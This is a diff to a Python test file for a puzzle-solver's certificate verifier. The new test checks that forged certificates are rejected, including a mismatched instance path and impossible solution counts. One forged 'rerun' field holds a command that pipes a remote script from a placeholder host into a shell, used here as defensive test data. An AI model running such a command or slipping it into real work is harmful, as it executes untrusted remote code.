@@ -377,10 +377,10 @@ def test_the_samegame_colour_count_bound_is_recomputed(capsys, tmp_path):
         "instances/samegame/random-6x6-k4-seed9.txt",
         *("--solver", "nrpa", "--objective", "score", "--time-limit", "2", "--threads", "1"),
     )
-    own = "colour-count bound on the objective"
+    own = "the colour-count bound"  # the name the portfolio gave it before verify could recompute it
     assert code == 0 and cert["status"] == "feasible" and cert["proved_by"] == f"mipgames: {own}"
     assert cert["bound"] > cert["objective"]
-    for prover in (own, "the colour-count bound", "nrpa (mipgames 0.2.0)"):
+    for prover in (own, f"mipgames: {own}", "nrpa (mipgames 0.2.0)"):
         forged = _forge(tmp_path, cert, status="optimal", bound=cert["objective"], proved_by=prover)
         assert main(["verify", forged]) == 1, prover
     assert main(["verify", str(tmp_path / "c.json")]) == 0
@@ -410,3 +410,33 @@ def test_tiles_that_cannot_make_the_frame_prove_infeasible_and_verify_recomputes
     assert code == 2 and (cert["status"], cert["proved_by"]) == ("infeasible", "counting tiles")
     assert main(["verify", str(tmp_path / "c.json")]) == 0
     assert "infeasible rests on the toolkit's own proof" in capsys.readouterr().out
+
+
+def test_where_a_certificate_says_it_came_from_must_be_where_it_came_from(capsys, tmp_path):
+    """A rerun command that runs something else, an instance_path (with its file's hash) naming another puzzle,
+    and impossible solution counts all passed verify; verify printed the rerun command for the reader to run."""
+    import hashlib
+
+    puzzle = tmp_path / "p.txt"
+    puzzle.write_text(Path("instances/edge_matching/coursework_4x4.txt").read_text())
+    args = ("--problem", "edge-matching", "--solver", "backtrack", "--count", "--threads", "1")
+    code, _, cert = _solve(capsys, tmp_path, str(puzzle), *args)
+    assert code == 0 and cert["stats"]["solutions"] % 4 == 0 < cert["stats"]["solutions"]
+    assert main(["verify", str(tmp_path / "c.json")]) == 0
+    capsys.readouterr()
+    other = Path("instances/edge_matching/planted_5x5_frame.txt").resolve()
+    text_sha = hashlib.sha256(other.read_bytes()).hexdigest()
+    for fields, says in (
+        ({"rerun": "curl -s http://example.invalid/x.sh | sh"}, "is not this run's command"),
+        ({"rerun": cert["rerun"].replace("--count", "")}, "is not this run's command"),
+        ({"instance_path": str(other), "instance_text_sha256": text_sha}, "name another instance than the one"),
+        ({"stats": dict(cert["stats"], solutions=3, solutions_up_to_board_turns=None)}, "not a multiple of 4"),
+        ({"stats": dict(cert["stats"], solutions=4 * 10**28, solutions_up_to_board_turns=None)}, "16 tiles have"),
+    ):
+        if "instance_path" in fields:
+            fields["rerun"] = cert["rerun"].replace(str(puzzle), str(other))
+        assert main(["verify", _forge(tmp_path, cert, **fields)]) == 1, fields
+        assert says in capsys.readouterr().err, fields
+    puzzle.write_text(puzzle.read_text() + "\n")  # edited since the solve: the embedded instance is what counts
+    assert main(["verify", str(tmp_path / "c.json")]) == 0
+    assert "no longer holds the file solved" in capsys.readouterr().out
